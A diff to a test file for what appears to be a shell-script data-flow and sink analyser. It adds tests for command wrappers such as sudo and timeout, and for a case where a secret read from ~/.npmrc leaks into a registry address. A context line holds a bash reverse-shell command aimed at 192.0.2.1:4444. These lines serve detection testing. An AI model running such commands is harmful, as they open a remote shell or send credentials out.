@@ -50,6 +50,26 @@ describe('flows of a script text', () => {
     expect(flows(text, sink)).toContain(source);
   });
 
+  test.each([
+    'sudo -n -u root node x.js',
+    'sudo --user root -E node x.js',
+    'nice -n 10 node x.js',
+    'timeout -k 5 -s KILL 30 node x.js',
+    'env -u CI -i A=1 node x.js',
+    'stdbuf -o L node x.js',
+    'ionice -c 3 nohup node x.js',
+    'doas -u root node x.js',
+  ])('what comes before a program is not taken for it: %s', (text) => {
+    expect(started(run(text, { 'x.js': '1' }))).toEqual(['x.js']);
+  });
+
+  test('a registry that is named as a whole is told nothing; one with a secret in its address is', () => {
+    const publish = (registry: string): string[] =>
+      flows(`T=$(cat ~/.npmrc); npm publish --otp "$T" --registry ${registry}`, 'net.out');
+    expect(publish('https://registry.example/')).toEqual([]);
+    expect(publish('https://registry.example/$T/')).toContain('secret.file');
+  });
+
   test('a socket with a shell is a handler', () => {
     expect(sinks('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', 'net.handler').map((seen) => seen.target)).toEqual([
       '192.0.2.1:4444',
